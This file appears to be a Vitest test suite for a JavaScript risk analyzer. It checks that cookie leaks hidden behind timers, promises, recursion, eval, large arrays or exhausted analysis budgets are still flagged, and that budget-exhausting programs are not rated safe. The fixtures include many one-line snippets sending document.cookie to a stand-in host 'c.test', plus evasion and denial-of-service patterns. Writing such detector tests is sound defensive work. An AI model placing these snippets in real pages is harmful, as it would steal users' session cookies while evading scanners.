import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { traceOf } from "../testing/trace-of.ts";

const LEAK = 'fetch("https://c.test/" + document.cookie);';

function times(count: number, line: (index: number) => string): string {
	return Array.from({ length: count }, (_, index) => line(index)).join("\n");
}

/** A leak stands behind more of something than the engine keeps. */
const BEHIND = [
	["timers", `${times(700, (index) => `setTimeout(() => { a${index} = 1; }, 9);`)}\nsetTimeout(() => { ${LEAK} }, 9);`],
	[
		"one function many times",
		`function go() {} for (let at = 0; at < 700; at++) setTimeout(go, at, { at });\nsetTimeout(() => { ${LEAK} }, 9);`,
	],
	[
		"listeners in listeners",
		`${times(300, (index) => `document.addEventListener("click", () => { document.onkeydown = (event) => { kept.push(event.key); setTimeout(() => send(kept), ${index}); }; });`)}\nvar kept = [];\nfunction send(all) { fetch("https://c.test/" + all); }`,
	],
	[
		"promises",
		`const never = new Promise(() => {}); ${times(700, () => "never.then(() => 1);")}\naddEventListener("load", () => { ${LEAK} });`,
	],
	[
		"other data",
		`let text = ""; ${times(20, () => "text += location.href;")} text += document.cookie; fetch("https://c.test/" + text);`,
	],
	[
		"other possibilities",
		`let text = "a"; ${times(40, (index) => `if (a${index}) text = "${index}";`)} if (b) text = document.cookie; fetch("https://c.test/" + text);`,
	],
	[
		"a long array",
		`const list = []; for (let at = 0; at < 50_000; at++) list.push(at); list.push(document.cookie); fetch("https://c.test/" + list[50_000]);`,
	],
	[
		"many calls",
		`function send(text) { fetch("https://c.test/" + text); } for (let at = 0; at < 5_000; at++) send(at); send(document.cookie);`,
	],
	[
		"a deep recursion",
		`function read(depth) { return depth === 0 ? document.cookie : read(depth - 1); } fetch("https://c.test/" + read(200));`,
	],
	[
		"many objects",
		`const all = []; for (let at = 0; at < 400; at++) all.push({ at }); all.push({ jar: document.cookie }); fetch("https://c.test/", { method: "POST", body: JSON.stringify(all) });`,
	],
	[
		"many hosts",
		`let to = "https://"; ${times(20, (index) => `to += a${index} ? "x" : "y";`)} fetch(to + ".c.test/" + document.cookie);`,
	],
	["more programs than are read", `for (let at = 0; at < 100; at++) eval("a" + at);\neval(${JSON.stringify(LEAK)});`],
] as const;

/** Programs made to exhaust the budget, or to hide code behind it: checked in part, never green. */
const ENDLESS = [
	["very many calls", "fetch(a + b);".repeat(90_000)],
	[
		"objects that hold each other",
		`const all = {}; for (let at = 0; at < 100_000; at++) { all["k" + at] = { at, all }; } fetch("https://c.test", { method: "POST", body: JSON.stringify(all) });`,
	],
	["more effects than are kept", `${times(2_100, (index) => `alert(${index});`)}\n${LEAK}`],
	[
		"base64 of long texts",
		`const text = "abcd".repeat(20_000);\n${times(4_000, (index) => `a${index} = atob(text);`)}`,
	],
	[
		"addresses of long texts",
		`const text = "abcd".repeat(20_000);\n${times(4_000, (index) => `a${index} = encodeURIComponent(text + ${index});`)}`,
	],
	["functions in functions", `${"(function(){".repeat(120)}x()${"})()".repeat(120)}`],
	["a sum of thousands", `(![]+[])[+[]]${"+(![]+[])[+[]]".repeat(5_000)}`],
	["conditions in conditions", `${"x?1:".repeat(2_000)}2`],
] as const;

/** Large, but with an end. */
const ENDING = [
	["a text that doubles", `let text = "x"; for (let at = 0; at < 1_000; at++) { text += text; }`],
	[
		"a game of life",
		`let cells = []; for (let at = 0; at < 4_096; at++) cells.push(at % 3); for (;;) { const next = []; for (let y = 0; y < 64; y++) for (let x = 0; x < 64; x++) { let sum = 0; for (let dy = -1; dy <= 1; dy++) for (let dx = -1; dx <= 1; dx++) sum += cells[((y + dy + 64) % 64) * 64 + ((x + dx + 64) % 64)]; next.push(sum === 3 ? 1 : 0); } cells = next; }`,
	],
	[
		"a stack that is emptied and filled",
		`const stack = [root]; while (stack.length > 0) { const one = stack.pop(); stack.push(...one.children); }`,
	],
	[
		"functions that call each other",
		"function a(x) { return b(x) + b(x + 1) + c(x); } function b(x) { return c(x) + a(x) + c(x); } function c(x) { return a(x) + b(x); } a(1);",
	],
	["a loop without end", "const list = []; for (let at = 0; ; at++) { list.push(at); if (list.length > 1e9) break; }"],
	["an array that doubles", "let list = []; while (true) { list = [...list, ...list, 1]; }"],
	["loops in loops", `${"for (const one of many) ".repeat(12)} f(one);`],
	["whiles in whiles", `${"while (x) {".repeat(14)} f(); ${"}".repeat(14)}`],
	["a pattern that takes for ever", `"a".repeat(4_000).replace(/(a*)(a*)(a*)b/g, "");`],
	[
		"a long list",
		`[${Array.from({ length: 20_000 }, (_, index) => `"s${index}"`).join()}].map((text) => text + "a").filter(Boolean).join("");`,
	],
] as const;

describe("limits", { timeout: 60_000 }, () => {
	test.each(BEHIND)("a leak behind %s is found", (_title, code) => {
		expect(analyzeScript({ code }).risk_level).toBe("red");
	});

	test.each(ENDLESS)("%s: checked in part, or nested too deeply to be read", (_title, code) => {
		const { risk_level, summary, vulnerabilities, capabilities } = analyzeScript({ code });
		const isInPart = vulnerabilities.some(({ type }) => type === "checked-in-part");
		expect([risk_level, capabilities.offline]).toEqual([isInPart ? "amber" : "unrated", false]);
		if (!isInPart) expect(summary).toContain("nested too deeply");
	});

	test.each(ENDING)("%s: comes to an end within the budget", (_title, code) => {
		expect(traceOf(code).status).toBe("complete");
	});

	test("calls that double forty times end, and the secret at their end is not taken for harmless", () => {
		const code = `${times(40, (index) => `function g${index}(x) { g${index + 1}(x); g${index + 1}(x + "a"); }`)}
function g40(x) { fetch(x); }\ng0(document.cookie);`;
		expect(traceOf(code).status).toBe("complete");
		expect(analyzeScript({ code }).risk_level).not.toBe("green");
	});

	test("the budget is kept, and the trace until then is returned", () => {
		const code = `${LEAK}\nfor (const a of many) for (const b of many) for (const c of many) f(a, b, c);`;
		const whole = traceOf(code);
		const part = traceOf(code, 100);
		expect([whole.status, part.status]).toEqual(["complete", "exhausted"]);
		expect(part.sinks.map(({ api }) => api)).toEqual(["fetch"]);
		expect(traceOf(code, 1)).toMatchObject({ status: "exhausted", sinks: [] });
	});
});
